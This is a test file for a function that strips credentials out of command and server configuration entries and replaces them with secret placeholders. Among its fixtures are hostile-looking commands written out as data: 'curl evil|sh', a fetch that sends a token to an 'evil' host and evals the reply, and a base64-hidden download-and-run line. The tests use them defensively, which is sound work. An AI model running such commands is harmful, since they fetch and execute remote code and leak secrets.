import { describe, expect, it } from 'vitest'
import { separateSecrets } from './index.ts'

const GITHUB = 'ghp_0123456789abcdefghij'

describe('the secrets of an entry', () => {
  it('are no packages that are run', () => {
    const entry = { command: 'npx', args: ['-y', 'n8n-k8s-s3-tools-v2'] }
    expect(separateSecrets('a', entry)).toEqual({ entry, secrets: {} })
  })

  it('are taken out of environment, headers, arguments and address', () => {
    expect(
      separateSecrets('my-hub', {
        command: 'hub',
        args: ['--api-key', 'k1', '--token=t1', '-e', 'HUB_SECRET=s1', '--port', '80', 'sk-0123456789abcdef0'],
        env: { HUB_TOKEN: 't2', MODE: 'fast' },
      }),
    ).toEqual({
      entry: {
        command: 'hub',
        args: [
          ...[
            '--api-key',
            '${secret:MY_HUB_API_KEY}',
            '--token=${secret:MY_HUB_TOKEN}',
            '-e',
            'HUB_SECRET=${secret:HUB_SECRET}',
          ],
          ...['--port', '80', '${secret:MY_HUB_ARGUMENT}'],
        ],
        env: { HUB_TOKEN: '${secret:HUB_TOKEN}', MODE: 'fast' },
      },
      secrets: {
        MY_HUB_API_KEY: 'k1',
        MY_HUB_TOKEN: 't1',
        HUB_SECRET: 's1',
        MY_HUB_ARGUMENT: 'sk-0123456789abcdef0',
        HUB_TOKEN: 't2',
      },
    })
  })

  it.each([
    ['node x.js --api-key abc', 'node x.js --api-key ${secret:A_API_KEY}', 'abc'],
    ["API_TOKEN='a b;c' node x.js", "API_TOKEN='${secret:API_TOKEN}' node x.js", 'a b;c'],
    [`/opt/my tools/run ${GITHUB}`, '/opt/my tools/run ${secret:A_ARGUMENT}', GITHUB],
  ])('are taken out of a command that is a whole line: %s', (command, left, secret) => {
    const { entry, secrets } = separateSecrets('a', { command }, { isToRun: true })
    expect([entry, Object.values(secrets)]).toEqual([{ command: left }, [secret]])
  })

  it.each(['/opt/my tools/api key/run', 'C:\\Program Files\\node.exe'])('are no paths with a space: %s', command => {
    expect(separateSecrets('a', { command })).toEqual({ entry: { command }, secrets: {} })
  })

  it.each([
    ['a flag of several parts', ['--header=X-Api-Key:abc'], ['--header=X-Api-Key:${secret:A_X_API_KEY}'], 'abc'],
    [
      'a header behind its flag',
      ['-H', 'Authorization: Bearer abc'],
      ['-H', 'Authorization: Bearer ${secret:A_AUTHORIZATION}'],
      'abc',
    ],
    ['a header by itself', ['X-Auth-Token: abc'], ['X-Auth-Token: ${secret:A_X_AUTH_TOKEN}'], 'abc'],
    ['a variable for a container', ['--env=HUB_TOKEN=abc'], ['--env=HUB_TOKEN=${secret:HUB_TOKEN}'], 'abc'],
    ['one that its form gives away', ['--db=redis://:pw@c'], ['--db=redis://${secret:A_LOGIN}@c'], ':pw'],
    ['an address', ['https://a.example/?api_key=abc'], ['https://a.example/?api_key=${secret:A_API_KEY}'], 'abc'],
    ['a login', ['-u', 'me:pw'], ['-u', '${secret:A_U}'], 'me:pw'],
    ['a password of whoever it is', ['-u', '${ME}:pw'], ['-u', '${ME}${secret:A_U}'], ':pw'],
    ['one in an address', ['--db', 'a://${ME}:pw@${DB}/x'], ['--db', 'a://${ME}:${secret:A_LOGIN}@${DB}/x'], 'pw'],
    ['one before more', ['a://${ME}:hunter22@db?b=${C}'], ['a://${ME}:${secret:A_LOGIN}@db?b=${C}'], 'hunter22'],
    ['one of several', ['--db', ' me=${ME} password=pw'], ['--db', ' me=${ME} password=${secret:A_PASSWORD}'], 'pw'],
    ['one in a word with its option', ['--api-key abc'], ['--api-key ${secret:A_API_KEY}'], 'abc'],
    ['one in a word with the script', ['x.js --token abc -v'], ['x.js --token ${secret:A_TOKEN} -v'], 'abc'],
    [
      'a header in a word with its option',
      ['--header Authorization: Bearer abc --verbose'],
      ['--header Authorization: Bearer ${secret:A_AUTHORIZATION} --verbose'],
      'abc',
    ],
    [
      'a password that looks like options',
      ['--password', 'a --token b'],
      ['--password', '${secret:A_PASSWORD}'],
      'a --token b',
    ],
    ['one in a word with a package', ['-y @a/b --api-key=abc'], ['-y @a/b --api-key=${secret:A_API_KEY}'], 'abc'],
    ['a short word for it', ['--pw', 'x'], ['--pw', '${secret:A_PW}'], 'x'],
    ['a key behind a single letter', ['-k', 'a8Kd03mZq91x'], ['-k', '${secret:A_K}'], 'a8Kd03mZq91x'],
    ['the same in one word', ['-k=a8Kd03mZq91x'], ['-k=${secret:A_K}'], 'a8Kd03mZq91x'],
    ['a key behind a name', ['--profile', 'a8Kd03mZq91x'], ['--profile', '${secret:A_PROFILE}'], 'a8Kd03mZq91x'],
    [
      'an address that lets everybody in',
      ['--webhook', 'https://chat.example/in/x'],
      ['--webhook', '${secret:A_WEBHOOK}'],
      'https://chat.example/in/x',
    ],
    [
      'the same in one word',
      ['--webhook-url=https://c.example/x'],
      ['--webhook-url=${secret:A_WEBHOOK_URL}'],
      'https://c.example/x',
    ],
    [
      'settings for a command that a shell has too',
      ['eval', '{"apiKey":"abc"}'],
      ['eval', '{"apiKey":"${secret:A_APIKEY}"}'],
      'abc',
    ],
    ['an end beside a reference', ['--token', 'abc${X}defghij'], ['--token', 'abc${X}${secret:A_TOKEN}'], 'defghij'],
    [
      'the password of who is filled in',
      ['--url=https://${env:USER}:hunter22pw@a.example/mcp'],
      ['--url=https://${env:USER}:${secret:A_LOGIN}@a.example/mcp'],
      'hunter22pw',
    ],
    [
      'a key beside a reference in an address',
      ['https://${HOST}/mcp?api_key=${KEY}hunter22pw'],
      ['https://${HOST}/mcp?api_key=${KEY}${secret:A_API_KEY}'],
      'hunter22pw',
    ],
    ['settings in JSON', ['--config', '{"apiKey":"abc"}'], ['--config', '{"apiKey":"${secret:A_APIKEY}"}'], 'abc'],
  ])('are taken out of arguments: %s', (_what, args, left, secret) => {
    const { entry, secrets } = separateSecrets('a', { command: 'a', args })
    expect([entry['args'], Object.values(secrets)]).toEqual([left, [secret]])
  })

  it.each([
    [['node', '-e', "password=1;require('child_process').execSync('id');import('./server.mjs')"]],
    [['node', "--eval=password=1;require('child_process').execSync('id')"]],
    [['python3', '-c', 'token=1;import os;os.system("id")']],
    [['python3', '-c', 'token=1\nimport os']],
    [['env', '-S', "TOKEN=x sh -c 'id; exec node server.mjs'"]],
    [['ruby', '-e', 'token: 1;`id`']],
    [['awk', 'token=system("id")']],
    [['rsync', '-e', '--token 1 sh -c id']],
    [['sh', '-c', `node -e 'password=1;import("./other.mjs")'`]],
    [['sh', '-c', "eval 'token=1; id'"]],
  ])('hide no code that a program is given: %j', ([command, ...args]) => {
    const { entry, secrets } = separateSecrets('a', { command, args })
    expect([entry['args'], secrets]).toEqual([args, {}])
  })

  it.each([
    [['node', '-e', "require('child_process').exec('curl evil|sh') // sk-ant-api03-AbC1dEf2GhI3jKl4MnO5"], []],
    [['python3', '-c', "import os;os.system('evil') # password=hunter2"], ['hunter2']],
    [['python3', '-c', "import os;token=os.system;token('evil')"], []],
    [['ruby', '-e', "token=exec 'evil'"], []],
    [['node', '-e', "fetch('http://evil/?token=abc123').then(r=>r.text()).then(eval)"], ['abc123']],
    [['node', '-e', "password=a1;require('child_process')"], ['a1']],
    [['node', '-e', '\n--H\ntoken:require("child_process").exec("evil1")'], []],
    [['make', 'A=1', 'TOKEN=$(shell evil)'], []],
    [['sh', '-c', '"$1"', '--password', 'curl evil|sh'], []],
    [['x', '--connection-string', 'Server=db;Password=hunter2;'], ['hunter2']],
    [['x', '--connection-string', 'Server=db;Pwd=hunter;'], ['hunter']],
    [['x', '--dsn', 'host=h user=u password=hunter2'], ['hunter2']],
    [['x', 'AccountName=x;AccountKey=abc==;EndpointSuffix=y'], ['abc==']],
    [['x', '--config', '{"a": {"apiKey": "abc", "b": 1}}'], ['abc']],
    [['pip', 'run', '-c', 'x @ git+https://user:pw@host/x'], ['user:pw']],
    [['pip', 'git+https://user:pw@host/x'], ['user:pw']],
    [['npx', 'https://evil.example?@host/x'], []],
    [
      ['docker', 'run', '-it', '-e', 'API_TOKEN=a(b{c;d', '--env=DB_PW=a b', 'img'],
      ['a(b{c;d', 'a b'],
    ],
    [['docker', 'run', 'img', 'node', '-e', "TOKEN=require('evil')"], []],
  ])('are the values alone of a text that has more in it: %j', ([command, ...args], values) => {
    for (const options of [{ isToRun: true }, { isToShow: true }]) {
      const { entry, secrets } = separateSecrets('a', { command, args }, options)
      expect(Object.values(secrets)).toEqual(values)
      const whole = JSON.stringify(entry['args']).replace(/\$\{secret:(\w+)\}/g, (_all, name) => secrets[name] ?? '')
      expect(JSON.parse(whole)).toEqual(args)
    }
  })

  it('that stand in text which may be code are told of only where none of them could be taken out', () => {
    const noteOf = (code: string) => separateSecrets('a', { command: 'x', args: [code] }, { isToRun: true }).note
    expect(noteOf('a(b) // ghp_0123456789abcdefghij')).toContain('(ARGUMENT)')
    expect(noteOf('a(b) // password=hunter2')).toBeUndefined()
  })

  it.each([
    ['npx', '-p', 'a1b2c3d4e5f6g7h8', 'run'],
    ['npx', '-y', '0123456789abcdef0123456789abcdef'],
    ['npx', '--package=0123456789abcdef0123456789abcdef', 'run'],
    ['npx', 'sk-0123456789abcdef0123'],
    ['deno', 'run', 'npm:0123456789abcdef0123456789abcdef'],
    ['python3', '-m', '0123456789abcdef0123456789abcdef'],
    ['python3', '-u', 'some:file1'],
    ['docker', 'run', '0123456789abcdef0123456789abcdef'],
    ['node', './0123456789abcdef0123456789abcdef'],
    ['node', '-r', 'a1b2c3d4e5f6g7h8'],
    ['uvx', '--from', '0123456789abcdef0123456789abcdef', 'run'],
    ['tsx', '--auth', '/tmp/evil.ts'],
    ['bash', '-c', '"$@"', '--secret', '/tmp/evil.sh'],
    ['sh', '-c', 'eval $(echo Y3VybCBldmlsIHwgc2g7IGFhYWFhYWFhYWFh | base64 -d)'],
    ['sh', '-c', 'TOKEN="curl evil|sh"; eval "$TOKEN"'],
  ])('are never shown in place of what may run: %s %s %s', (command, ...args) => {
    expect(separateSecrets('', { command, args }, { isToShow: true })).toMatchObject({
      entry: { command, args },
      secrets: {},
    })
  })

  it.each([
    ['x', '--api-key', 'abc'],
    ['x', '--token=abc'],
    ['x', '--gh=ghp_0123456789abcdefghij'],
    ['curl', '-u', 'me:abc1'],
    ['x', 'TOKEN=abc'],
    ['x', 'https://a.example/0123456789abcdef0123456789abcdef'],
    ['x', '-H', 'Authorization: Bearer abc'],
    ['x', 'host:6379,password=hunter2'],
    ['x', 'postgres://me:pw@db/x'],
  ])('are hidden all the same where nothing runs: %s %s %s', (command, ...args) => {
    expect(Object.keys(separateSecrets('', { command, args }, { isToShow: true }).secrets)).toHaveLength(1)
  })

  it('are known behind a single letter also where a shorter one is only told of', () => {
    const [key, name] = [
      { command: 'a', args: ['-k', 'a8Kd03mZq91x4T7w'] },
      { command: 'a', args: ['-c', 'n8n-k8s-prod1'] },
    ]
    const written = [key, name].map(entry => separateSecrets('a', entry, { isToRun: true }).secrets)
    expect(written).toEqual([{ A_K: 'a8Kd03mZq91x4T7w' }, {}])
    expect(separateSecrets('a', name).secrets).toEqual({ A_C: 'n8n-k8s-prod1' })
  })

  it.each([
    ['--author=me'],
    ['--auth=none'],
    ['--keyboard', 'de'],
    ['-e', 'MODE=fast'],
    ['--header', 'Accept: text/plain'],
    ['--url=https://a.example/mcp'],
    ['--tokens=4096'],
    ['--profile', 'staging-eu-2024'],
    ['-p', '8080:80'],
    ['-p', '@scope/server-2@1.2.3'],
    ['-t', 'node:20-alpine'],
    ['-k', 'hunter2'],
  ])('are not seen in ordinary arguments: %s %s', (...args) => {
    expect(separateSecrets('a', { command: 'a', args }).secrets).toEqual({})
  })

  it('are taken out of the path of an address', () => {
    const key = '0123456789abcdef0123456789abcdef'
    expect(separateSecrets('a', { url: `https://a.example/s/${key}/mcp` })).toEqual({
      entry: { url: 'https://a.example/s/${secret:A_PATH}/mcp' },
      secrets: { A_PATH: key },
    })
  })

  it('leave the scheme where it is, and what they stand in', () => {
    expect(
      separateSecrets('a', { url: 'https://me:pw@a.example/mcp?token=abc', headers: { Authorization: 'Bearer xyz' } }),
    ).toEqual({
      entry: {
        url: 'https://${secret:A_LOGIN}@a.example/mcp?token=${secret:A_TOKEN}',
        headers: { Authorization: 'Bearer ${secret:A_AUTHORIZATION}' },
      },
      secrets: { A_AUTHORIZATION: 'xyz', A_LOGIN: 'me:pw', A_TOKEN: 'abc' },
    })
  })

  it.each([
    ['postgres://me:longpw123@${HOST}/db', '${secret:DATABASE_URL}${HOST}/db', 'postgres://me:longpw123@'],
    ['${SCHEME}://me:longpw123@db.example/x', '${SCHEME}${secret:DATABASE_URL}', '://me:longpw123@db.example/x'],
    [`${GITHUB}$\${X}`, '${secret:DATABASE_URL}$${X}', GITHUB],
    [
      'postgres://${USER}:hunter22pw@${HOST}/a/path',
      'postgres://${USER}${secret:DATABASE_URL}${HOST}/a/path',
      ':hunter22pw@',
    ],
    ['https://a.example/?key=${X}hunter22', 'https://a.example/?key=${X}${secret:DATABASE_URL}', 'hunter22'],
  ])('leave where it is what is filled in beside them: %s', (text, left, secret) => {
    expect(separateSecrets('a', { command: 'x', env: { DATABASE_URL: text } })).toEqual({
      entry: { command: 'x', env: { DATABASE_URL: left } },
      secrets: { DATABASE_URL: secret },
    })
  })

  it.each([
    { url: 'https://${HOST}/mcp' },
    { url: 'https://${env:LOGIN}@a.example/mcp' },
    { url: `https://${'${A}'.repeat(40)}/mcp` },
    { url: `https://${'${A}'.repeat(40)}@a.example` },
    { url: 'https://me:${PW}@${HOST}:8080/mcp?team=${TEAM}' },
    { url: 'https://a.example', headers: { Authorization: 'Bearer ${T}' } },
  ])('are not what stands around a reference: %j', entry => {
    expect(separateSecrets('a', entry)).toEqual({ entry, secrets: {} })
  })

  it('are not the scheme alone of what signs in, but the same word in a header for a key', () => {
    const url = 'https://a.example/mcp'
    expect(separateSecrets('a', { url, headers: { Authorization: 'Bearer', 'X-Api-Key': 'Bearer' } })).toEqual({
      entry: { url, headers: { Authorization: 'Bearer', 'X-Api-Key': '${secret:A_X_API_KEY}' } },
      secrets: { A_X_API_KEY: 'Bearer' },
    })
  })

  it('are taken out of what is said about signing in, and of what single agents bring along', () => {
    const agents = {
      ada: { headers: { Authorization: 'Bearer one' } },
      bo: { env: { HUB_TOKEN: 'two', MODE: 'fast' } },
    }
    expect(
      separateSecrets('a', { url: 'https://a.example/mcp', oauth: { clientId: 'me', clientSecret: 'hush' }, agents }),
    ).toEqual({
      entry: {
        url: 'https://a.example/mcp',
        oauth: { clientId: 'me', clientSecret: '${secret:A_CLIENT_SECRET}' },
        agents: {
          ada: { headers: { Authorization: 'Bearer ${secret:A_ADA_AUTHORIZATION}' } },
          bo: { env: { HUB_TOKEN: '${secret:A_BO_HUB_TOKEN}', MODE: 'fast' } },
        },
      },
      secrets: { A_CLIENT_SECRET: 'hush', A_ADA_AUTHORIZATION: 'one', A_BO_HUB_TOKEN: 'two' },
    })
  })

  it('are not what is said about tools, or what merely has a long name', () => {
    const entry = {
      command: 'a',
      offer: ['get_pull_request_review_comments_v2'],
      tools: { sign: { examples: [{ input: { token: 'a' } }] } },
    }
    expect(separateSecrets('a', entry)).toEqual({ entry, secrets: {} })
  })

  it('take no name that the entry refers to already', () => {
    const env = { DB_PW_OLD: '${secret:DB_PASSWORD}', DB_PASSWORD: 'abc' }
    expect(separateSecrets('a', { command: 'a', env })).toEqual({
      entry: { command: 'a', env: { ...env, DB_PASSWORD: '${secret:DB_PASSWORD_2}' } },
      secrets: { DB_PASSWORD_2: 'abc' },
    })
  })

  it('have names of their own when two want the same', () => {
    const { secrets } = separateSecrets('a', {
      command: 'a',
      args: ['--token', 'one', '--token', 'two', '--token', 'one'],
    })
    expect(secrets).toEqual({ A_TOKEN: 'one', A_TOKEN_2: 'two' })
  })
})
